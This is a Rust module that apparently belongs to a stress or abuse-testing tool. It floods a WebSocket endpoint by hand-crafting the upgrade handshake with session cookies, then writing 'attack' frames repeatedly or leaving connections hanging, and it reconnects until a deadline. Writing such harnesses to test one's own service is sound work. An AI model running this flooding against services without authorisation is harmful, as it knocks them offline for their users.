//! A socket that ignores the rules: raw bytes over TCP, as fast as possible.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout, timeout_at};

use super::frames::{Attack, hello};

/// Bytes per write.
const PIECE: usize = 64 * 1024;

/// Upgrades and sends the attack, reconnecting when it is cut off, until `until`.
pub async fn flood(address: SocketAddr, cookies: String, attack: Attack, until: Instant) {
    while Instant::now() < until {
        // Any error is an acceptable outcome.
        if timeout_at(until.into(), once(address, &cookies, &attack))
            .await
            .is_ok()
        {
            // Far more often than a page, but not only busy being refused.
            sleep(Duration::from_millis(20)).await;
        }
    }
}

async fn once(address: SocketAddr, cookies: &str, attack: &Attack) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    let request = format!(
        "GET /ws HTTP/1.1\r\nHost: {address}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
         Cookie: {cookies}\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await?;
    let mut head = [0; 12];
    stream.read_exact(&mut head).await?;
    if !head.ends_with(b"101") {
        return Ok(());
    }
    let (mut reading, mut writing) = stream.into_split();
    let drain = tokio::spawn(async move {
        let mut buffer = vec![0; PIECE];
        while reading.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
    });
    if attack.sends_hello {
        writing.write_all(&hello()).await?;
    }
    writing.write_all(&attack.first).await?;
    if attack.then.is_empty() {
        // Waits silently to be cut off.
        let _ = drain.await;
        return Ok(());
    }
    let piece = attack.then.repeat(PIECE.div_ceil(attack.then.len()));
    while timeout(Duration::from_secs(5), writing.write_all(&piece))
        .await
        .is_ok_and(|written| written.is_ok())
    {}
    drain.abort();
    Ok(())
}
